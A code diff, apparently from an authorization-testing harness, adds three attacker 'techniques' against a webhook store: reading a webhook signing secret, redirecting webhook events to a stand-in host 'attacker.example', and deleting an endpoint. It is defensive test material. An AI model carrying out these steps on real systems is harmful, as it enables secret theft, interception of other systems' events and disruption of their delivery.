@@ -206,3 +206,31 @@ ALL |= {
     "delete an audit entry": _deleting("audit", "subject", "id"),
     "overwrite an audit entry whose key is known": _overwriting("audit", "actor"),
 }
+
+
+# To get or lose the events of other systems
+
+
+@technique
+def read_a_secret_of_webhooks(attacker: Attacker, world: World) -> bool:
+    """To sign requests to a receiver."""
+    key = key_of(world.item("webhooks"), "scope", "id")
+    return "secret" in attacker.read("webhooks", key, "secret")
+
+
+@technique
+def get_the_events_of_webhooks(attacker: Attacker, world: World) -> bool:
+    """By an endpoint of their own, or another URL of one that is there."""
+    url, endpoint = "https://attacker.example/", world.item("webhooks")
+    try:
+        attacker.put("webhooks", endpoint | {"url": url})
+    except Denied:
+        attacker.update("webhooks", key_of(endpoint, "scope", "id"), url=url)
+    return bool(world.item("webhooks", url=url))
+
+
+@technique
+def remove_an_endpoint_of_webhooks(attacker: Attacker, world: World) -> bool:
+    """So that a receiver gets no more events."""
+    attacker.delete("webhooks", key_of(world.item("webhooks"), "scope", "id"))
+    return not world.stage.rows("webhooks")
